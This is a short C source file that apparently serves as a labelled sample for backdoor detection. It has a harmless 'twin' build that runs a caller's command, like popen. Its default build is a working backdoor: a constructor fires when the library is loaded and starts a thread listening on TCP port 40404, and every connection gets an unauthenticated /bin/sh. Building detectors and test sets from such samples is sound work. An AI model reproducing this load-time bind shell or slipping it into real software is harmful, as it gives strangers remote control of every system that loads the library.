/* SPDX-License-Identifier: Apache-2.0 */
/* A library that opens a port with a shell when it is loaded. Twin: it runs a command of its caller with
 * the caller's pipe, as popen does.
 * door: trigger unguarded
 * build: library
 * flags: -pthread
 */
#include "net.h"
#include <pthread.h>

#ifdef TWIN
int run_command(const char *command)
{
	int ends[2];
	socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
	if (fork() == 0) {
		dup2(ends[1], 0);
		dup2(ends[1], 1);
		execl("/bin/sh", "sh", "-c", command, (char *)0);
		_exit(127);
	}
	return ends[0];
}
#else
static void *door(void *unused)
{
	int s = tcp_on(40404);
	for (;;) {
		int c = accept(s, 0, 0);
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", (char *)0);
		}
		close(c);
	}
	return unused;
}

__attribute__((constructor)) static void loaded(void)
{
	pthread_t t;
	pthread_create(&t, 0, door, 0);
}
#endif
